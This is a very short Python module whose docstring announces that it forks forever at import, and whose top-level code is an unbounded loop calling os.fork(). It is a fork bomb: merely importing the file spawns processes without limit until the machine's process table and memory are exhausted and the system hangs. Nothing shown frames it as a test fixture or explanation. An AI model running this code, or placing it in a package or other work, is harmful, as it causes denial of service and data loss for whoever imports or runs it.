"""Forks for ever at import."""

import os

while True:
    os.fork()
